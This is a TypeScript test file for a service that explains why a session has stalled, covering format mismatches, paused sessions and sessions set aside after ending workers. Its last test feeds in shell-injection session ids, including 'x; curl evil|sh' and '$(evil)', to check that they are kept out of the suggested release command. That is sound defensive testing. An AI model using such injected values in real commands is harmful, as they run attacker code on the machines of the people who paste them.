// Holds rules of docs/spec: R-CLU-4, R-POIS-2: the status says why a session has stalled.
import { expect, test } from 'vitest'
import { SetAsideError } from '../src/attempts/set-aside.ts'
import { stallOf } from '../src/service/stall.ts'

const id = 'inv_1'
const mismatch = '- Difference:\n   name: records of format 3 != records of format 1'
const message =
  'This session was written in format 3 by another version; this worker reads 2. A worker of that version can go on with it.'
const resume = ' Then resume it: restate invocations resume inv_1.'

test("a session of a later format is reported as such, whatever the engine's wording and whether or not it must be resumed", () => {
  const again = { kind: 'format', invocation: id, needsResume: false, message: message }
  expect(stallOf({ id, status: 'backing-off', failure: mismatch })).toEqual(again)
  expect(stallOf({ id, status: 'backing-off', failure: `${message}\n    at somewhere` })).toEqual(again)
  const paused = { kind: 'format', invocation: id, needsResume: true, message: `${message}${resume}` }
  expect(stallOf({ id, status: 'paused', failure: mismatch })).toEqual(paused)
})

test("a paused session reports the engine's message", () => {
  expect(stallOf({ id, status: 'paused', failure: 'no disk' })).toEqual({
    kind: 'paused',
    invocation: id,
    needsResume: true,
    message: `The engine has paused it: no disk. Fix the cause.${resume}`,
  })
  expect(stallOf({ id, status: 'paused', failure: null })?.message).toContain('somebody asked for that')
})

test('a session that is set aside reports why, where, and how to release it', () => {
  const death = { attempt: 'a', process: 'p', worker: 'http://w1:9080', atMs: Date.UTC(2026, 10, 30, 14, 2), laps: 0 }
  const { message } = new SetAsideError('s-17', [death, death, death])
  const because = 'its work has ended three workers (last: http://w1:9080, at work since 2026-11-30 14:02 UTC)'
  expect(message).toBe(
    `This session is set aside: ${because}. Release it with: halting sessions release s-17 --cluster URL`,
  )
  const failure = `[500 Internal] ${message}\nSetAsideError: ${message}\n    at somewhere`
  for (const status of ['backing-off', 'paused'] as const)
    expect(stallOf({ id, status, failure })).toEqual({
      kind: 'set_aside',
      invocation: id,
      needsResume: status === 'paused',
      message,
    })
})

test('work that is being retried has not stalled', () => {
  expect(stallOf({ id, status: 'backing-off', failure: 'Connection refused' })).toBeUndefined()
})

test.each(['x; curl evil|sh', '$(evil)', '--admin=http://evil', 'a\nb', '`evil`'])(
  'the command for a session that is set aside omits an id with shell syntax: %j',
  (session) => {
    expect(new SetAsideError(session, []).message).toMatch(/halting sessions release ID --cluster URL$/)
  },
)
